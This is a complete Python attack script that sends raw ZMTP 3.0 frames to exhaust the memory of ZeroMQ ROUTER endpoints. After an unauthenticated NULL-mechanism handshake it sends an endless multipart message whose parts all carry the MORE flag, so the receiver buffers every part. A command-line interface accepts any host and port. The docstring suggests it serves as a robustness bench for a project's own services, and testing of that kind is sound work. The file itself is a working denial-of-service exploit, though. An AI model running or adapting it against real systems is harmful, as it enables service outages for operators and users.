"""The incomplete-multipart attack, in raw ZMTP 3.0 over TCP: parts, never the last one.

    python multipart_attack.py tcp://HOST:PORT [--parts N] [--part-bytes B] [--hold S]

A ZeroMQ peer (no session, no key) greets a user endpoint's ROUTER with the
NULL mechanism, says READY as a DEALER, then sends N frames of B bytes each,
every one with the MORE flag: one message that never ends. libzmq's
high-water mark counts whole messages and ZMQ_MAXMSGSIZE bounds one frame,
so an unbounded role holds every part it has read (N x B bytes) until the
connection closes. pyzmq cannot send this: a pyzmq DEALER keeps an unfinished
message on the sending side, so the bytes never leave the client.

Prints one JSON object {"sent": bytes, "parts": n, "closed_by_peer": bool}:
closed_by_peer is True when the role dropped the connection under the attack
(its user endpoint was closed and bound again, or the role is gone).

Runs with the standard library alone: a bench or a tool can import `attack`
or pipe this file to python.
"""

from __future__ import annotations

import argparse
import json
import socket
import struct
import sys
import time
from typing import Any

#: ZMTP 3.0 greeting: signature, version 3.0, mechanism NULL, as-server 0, filler.
GREETING = b"\xff" + b"\x00" * 8 + b"\x7f" + b"\x03\x00" + b"NULL".ljust(20, b"\x00") + b"\x00" * 32
FLAG_MORE, FLAG_LONG, FLAG_COMMAND = 0x01, 0x02, 0x04


def frame(body: bytes, flags: int) -> bytes:
    """One ZMTP frame: flags (LONG added when needed), size, body."""
    if len(body) > 255:
        return struct.pack(">BQ", flags | FLAG_LONG, len(body)) + body
    return struct.pack(">BB", flags, len(body)) + body


def ready_command(socket_type: bytes = b"DEALER") -> bytes:
    """The NULL mechanism's READY command with one property, Socket-Type."""
    name = b"Socket-Type"
    body = b"\x05READY" + bytes([len(name)]) + name + struct.pack(">I", len(socket_type))
    return frame(body + socket_type, FLAG_COMMAND)


def _read_exact(s: socket.socket, n: int) -> bytes:
    buf = b""
    while len(buf) < n:
        got = s.recv(n - len(buf))
        if not got:
            raise ConnectionError("peer closed during the handshake")
        buf += got
    return buf


def handshake(host: str, port: int, timeout_s: float = 10.0) -> socket.socket:
    """A TCP connection to a ZMTP 3 peer, greeted and READY (NULL mechanism)."""
    s = socket.create_connection((host, port), timeout=timeout_s)
    s.sendall(GREETING)
    peer = _read_exact(s, 64)
    if peer[0] != 0xFF or peer[9] != 0x7F or peer[10] < 3:
        raise ConnectionError(f"not a ZMTP 3 peer: {peer[:12]!r}")
    s.sendall(ready_command())
    flags = _read_exact(s, 1)[0]
    size = struct.unpack(">Q", _read_exact(s, 8))[0] if flags & FLAG_LONG else _read_exact(s, 1)[0]
    cmd = _read_exact(s, size)
    if not flags & FLAG_COMMAND or not cmd.startswith(b"\x05READY"):
        raise ConnectionError(f"expected READY, got {cmd[:16]!r}")
    return s


def parse_tcp(endpoint: str) -> tuple[str, int]:
    if not endpoint.startswith("tcp://"):
        raise ValueError(f"not a tcp:// endpoint: {endpoint}")
    host, _, port = endpoint[len("tcp://") :].rpartition(":")
    return host.strip("[]"), int(port)


class Attack:
    """One attacking connection: send_parts() as often as wanted, close() when done."""

    def __init__(
        self, endpoint: str, part_bytes: int = 1 << 20, timeout_s: float = 10.0, batch: int = 1
    ):
        self.sock = handshake(*parse_tcp(endpoint), timeout_s=timeout_s)
        #: One send: `batch` parts (small parts cost the role ~64 bytes each: send many).
        self.chunk = frame(b"\xa5" * part_bytes, FLAG_MORE) * batch
        self.batch = batch
        self.sent = 0
        self.parts = 0
        self.closed_by_peer = False

    def send_parts(self, n: int) -> bool:
        """Send n more chunks of `batch` parts (each with MORE). => False once the peer
        closed the connection."""
        for _ in range(n):
            try:
                self.sock.sendall(self.chunk)
            except OSError:  # reset, broken pipe, or a send timeout: the role stopped reading
                self.closed_by_peer = True
                return False
            self.sent += len(self.chunk)
            self.parts += self.batch
        return True

    def close(self) -> None:
        self.sock.close()


def attack(endpoint: str, parts: int, part_bytes: int = 1 << 20, hold_s: float = 0.0) -> Any:
    batch = max(1, (1 << 16) // (part_bytes + 2))
    a = Attack(endpoint, part_bytes, batch=batch)
    a.send_parts(max(1, parts // batch))
    if hold_s:
        time.sleep(hold_s)  # a tool's pause to measure the role while the parts are held
    a.close()
    return {"sent": a.sent, "parts": a.parts, "closed_by_peer": a.closed_by_peer}


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("endpoint", help="a user endpoint, tcp://HOST:PORT")
    ap.add_argument("--parts", type=int, default=64)
    ap.add_argument("--part-bytes", type=int, default=1 << 20)
    ap.add_argument("--hold", type=float, default=0.0, help="seconds to hold the parts")
    args = ap.parse_args(argv)
    print(json.dumps(attack(args.endpoint, args.parts, args.part_bytes, args.hold)))
    return 0


if __name__ == "__main__":
    sys.exit(main())
